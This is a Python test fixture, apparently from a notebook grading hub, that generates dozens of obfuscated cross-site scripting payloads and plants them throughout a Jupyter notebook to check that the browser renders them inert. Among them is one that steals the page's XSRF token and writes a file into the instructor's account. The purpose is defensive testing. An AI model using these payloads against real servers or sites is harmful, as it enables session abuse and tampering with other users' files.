"""Cross-site scripting payloads a student can put in a notebook (tests/test_inert.py, tests/test_hub_browser.py).

From OWASP's XSS filter evasion cheat sheet and the known sanitiser bypasses (mutation XSS through
MathML/SVG foreign content, noscript, comments), in every place a notebook carries them: markdown
cells (raw HTML and markdown's own link and image syntax, MathJax's \\href), raw cells, attachments,
cell metadata, and outputs (text/html, image/svg+xml, application/javascript, text/markdown,
text/latex, widget views). Each payload, if it runs, calls ``js(ID)``: it marks the document
(``data-tc-xss`` on <html>) and requests ``BASE/tc-xss/ID`` (the browser test records every
request), and the first one also writes a file into the instructor's home through their
server's contents API with the page's XSRF token, as the attack in issue 37 did.
"""

from __future__ import annotations

import base64
import copy


def js(pid: str, base: str, instructor: str | None = None) -> str:
    """JavaScript without spaces or quotes: ``eval(unescape(/%xx.../.source))`` fits any attribute, URL or TeX."""
    code = (f"document.documentElement.setAttribute('data-tc-xss','{pid}');"
            f"(new Image()).src='{base}/tc-xss/{pid}';")
    if instructor:
        code += (f"fetch('/user/{instructor}/api/contents/tc-xss-{pid}.txt',{{method:'PUT',headers:{{"
                 "'Content-Type':'application/json','X-XSRFToken':decodeURIComponent((document.cookie.match(/_xsrf=([^;]*)/)||['',''])[1])},"
                 "body:JSON.stringify({type:'file',format:'text',content:'written by a student'})});")
    return "eval(unescape(/" + "".join(f"%{b:02x}" for b in code.encode()) + "/.source))"


def markdown_payloads(base: str, instructor: str) -> dict[str, str]:
    """id -> markdown cell source."""
    j = lambda pid: js(pid, base, instructor if pid == "md-img-onerror" else None)   # noqa: E731
    html_doc = lambda pid: base64.b64encode(f"<script>{j(pid)}</script>".encode()).decode()  # noqa: E731
    return {
        "md-img-onerror": f'My answer: <img src="x" onerror="{j("md-img-onerror")}">',
        "md-img-unquoted": f"<img src=x onerror={j('md-img-unquoted')}>",
        "md-svg-onload": f'<svg onload="{j("md-svg-onload")}"></svg>',
        "md-svg-script": f"<svg><script>{j('md-svg-script')}</script></svg>",
        "md-svg-animate": f'<svg><animate onbegin="{j("md-svg-animate")}" attributeName="x" dur="1s"/></svg>',
        "md-svg-xlink": f'<svg><a xlink:href="javascript:{j("md-svg-xlink")}"><text x="20" y="20">click</text></a></svg>',
        "md-script": f"<script>{j('md-script')}</script>",
        "md-script-case": f"<ScRiPt>{j('md-script-case')}</sCrIpT>",
        "md-script-split": f"<scr<script>ipt>{j('md-script-split')}</script>",
        "md-img-quotes": f'<IMG """><SCRIPT>{j("md-img-quotes")}</SCRIPT>">',
        "md-iframe-srcdoc": f'<iframe srcdoc="<script>{j("md-iframe-srcdoc")}</script>"></iframe>',
        "md-iframe-data": f'<iframe src="data:text/html;base64,{html_doc("md-iframe-data")}"></iframe>',
        "md-object-data": f'<object data="data:text/html;base64,{html_doc("md-object-data")}"></object>',
        "md-embed-data": f'<embed src="data:text/html;base64,{html_doc("md-embed-data")}">',
        "md-a-javascript": f'<a href="javascript:{j("md-a-javascript")}">click</a>',
        "md-a-entities": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                         f"{j('md-a-entities')}\">click</a>",
        "md-a-tab": f'<a href="jav&#x09;ascript:{j("md-a-tab")}">click</a>',
        "md-a-space": f'<a href=" &#14;  javascript:{j("md-a-space")}">click</a>',
        "md-img-src-js": f'<IMG SRC="javascript:{j("md-img-src-js")}">',
        "md-link-javascript": f"[click](javascript:{j('md-link-javascript')})",
        "md-link-angle": f"[click](<javascript:{j('md-link-angle')}>)",
        "md-link-ref": f"[click][r]\n\n[r]: javascript:{j('md-link-ref')}",
        "md-autolink": f"<javascript:{j('md-autolink')}>",
        "md-image-js": f"![x](javascript:{j('md-image-js')})",
        "md-image-breakout": f'![x](x" onerror="{j("md-image-breakout")})',
        "md-image-data-html": f"![x](data:text/html;base64,{html_doc('md-image-data-html')})",
        "md-style-expression": f'<div style="width: expression({j("md-style-expression")})">x</div>',
        "md-style-url": f'<div style="background-image: url(javascript:{j("md-style-url")})">x</div>',
        "md-style-tag": f"<style>body{{background:url('{base}/tc-xss/md-style-tag')}}</style>",
        "md-link-css": f'<link rel="stylesheet" href="{base}/tc-xss/md-link-css">',
        "md-details": f'<details open ontoggle="{j("md-details")}"><summary>s</summary>x</details>',
        "md-input-autofocus": f'<input autofocus onfocus="{j("md-input-autofocus")}">',
        "md-video-source": f'<video><source onerror="{j("md-video-source")}"></video>',
        "md-audio": f'<audio src="x" onerror="{j("md-audio")}"></audio>',
        "md-body-onload": f'<body onload="{j("md-body-onload")}">',
        "md-marquee": f'<marquee onstart="{j("md-marquee")}">x</marquee>',
        "md-form-action": f'<form action="javascript:{j("md-form-action")}"><button>go</button></form>',
        "md-formaction": f'<form><button formaction="javascript:{j("md-formaction")}">go</button></form>',
        "md-meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{j("md-meta-refresh")}">',
        "md-base-href": '<base href="javascript:/">',
        "md-math-mglyph": f'<math><mtext><table><mglyph><style><img src=x onerror="{j("md-math-mglyph")}">',
        "md-math-textarea": ('<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
                             f'<img onerror={j("md-math-textarea")} src=1>">'),
        "md-noscript": f'<noscript><p title="</noscript><img src=x onerror={j("md-noscript")}>">',
        "md-comment": f'<!--<img src="--><img src=x onerror="{j("md-comment")}">-->',
        "md-mathjax-href": f"$\\href{{javascript:{j('md-mathjax-href')}}}{{click}}$",
        "md-table-cell": f'| a |\n|---|\n| <img src=x onerror="{j("md-table-cell")}"> |',
        "md-code-fence-break": f"```\n</code></pre><img src=x onerror=\"{j('md-code-fence-break')}\">\n```",
    }


def notebook_payloads(base: str, instructor: str) -> list[dict]:
    """Cells (nbformat 4 dicts) carrying the payloads that are not markdown text: raw cells,
    attachments, metadata, outputs of every type a browser would render."""
    j = lambda pid: js(pid, base)   # noqa: E731
    svg = lambda pid: (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{j(pid)}">'   # noqa: E731
                       f"<script>{j(pid)}</script></svg>")

    def code(source, *outputs, **meta):
        return {"cell_type": "code", "execution_count": 1, "metadata": dict(meta), "source": source,
                "outputs": list(outputs)}

    def display(mime, value, metadata=None):
        return {"output_type": "display_data", "data": {mime: value}, "metadata": metadata or {}}

    return [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},
         "source": f'<img src=x onerror="{j("raw-html")}">'},
        {"cell_type": "raw", "metadata": {}, "source": f"<script>{j('raw-plain')}</script>"},
        {"cell_type": "markdown", "metadata": {}, "source": "![a](attachment:a.svg)",
         "attachments": {"a.svg": {"image/svg+xml": base64.b64encode(svg("attachment-svg").encode()).decode()}}},
        {"cell_type": "markdown", "metadata": {"nbgrader": {
            "grade": True, "solution": True, "locked": False, "points": 1, "schema_version": 3,
            "grade_id": f'x" onmouseover="{j("meta-grade-id")}" autofocus onfocus="{j("meta-grade-id")}'}},
         "source": "a cell whose nbgrader grade id is markup"},
        code(f"x = '</pre><script>{j('code-source')}</script>'",
             {"output_type": "stream", "name": "stdout", "text": f"<script>{j('stream')}</script>"},
             {"output_type": "error", "ename": "<b>E</b>", "evalue": f'<img src=x onerror="{j("error")}">',
              "traceback": [f'<img src=x onerror="{j("traceback")}">']}),
        code("# display(html) (its output, stored)", display("text/html", f'<img src=x onerror="{j("out-html")}">')),
        code("# display(html) (its output, stored)", display("text/html", f"<script>{j('out-html-isolated')}</script>",
                                      {"text/html": {"isolated": True}})),
        code("# display(svg) (its output, stored)", display("image/svg+xml", svg("out-svg"))),
        code("# display(js) (its output, stored)", display("application/javascript", j("out-js"))),
        code("# display(md) (its output, stored)", display("text/markdown", f'<img src=x onerror="{j("out-markdown")}">')),
        code("# display(tex) (its output, stored)", display("text/latex", f"$\\href{{javascript:{j('out-latex')}}}{{x}}$")),
        code("# w (a widget, stored)", {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                   "data": {"text/plain": "HTML(value='...')",
                            "application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2,
                                                                         "version_minor": 0}}}),
    ]


WIDGET_STATE = lambda base: {"application/vnd.jupyter.widget-state+json": {   # noqa: E731
    "version_major": 2, "version_minor": 0, "state": {"m1": {
        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
        "state": {"value": f'<img src=x onerror="{js("widget", base)}">'}}}}}


def plant(notebook: dict, base: str, instructor: str) -> dict:
    """The notebook with every payload: its written answers (markdown cells with an nbgrader grade)
    carry the first markdown payloads, new cells at the end the rest; widget state in its metadata."""
    nb = copy.deepcopy(notebook)
    md = list(markdown_payloads(base, instructor).items())
    written = [c for c in nb["cells"] if c["cell_type"] == "markdown"
               and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    for cell, (pid, source) in zip(written, md):
        cell["source"] = source
    for pid, source in md[len(written):]:
        nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": source})
    nb["cells"] += notebook_payloads(base, instructor)
    nb["metadata"]["widgets"] = WIDGET_STATE(base)
    return nb


NOTEBOOK_IDS = ("raw-html", "raw-plain", "attachment-svg", "meta-grade-id", "code-source", "stream", "error",
                "traceback", "out-html", "out-html-isolated", "out-svg", "out-js", "out-markdown", "out-latex", "widget")


def ids(base: str = "http://h", instructor: str = "i") -> list[str]:
    """Every payload's id (what a request to /tc-xss/<id> or data-tc-xss would name)."""
    return [*markdown_payloads(base, instructor), *NOTEBOOK_IDS]
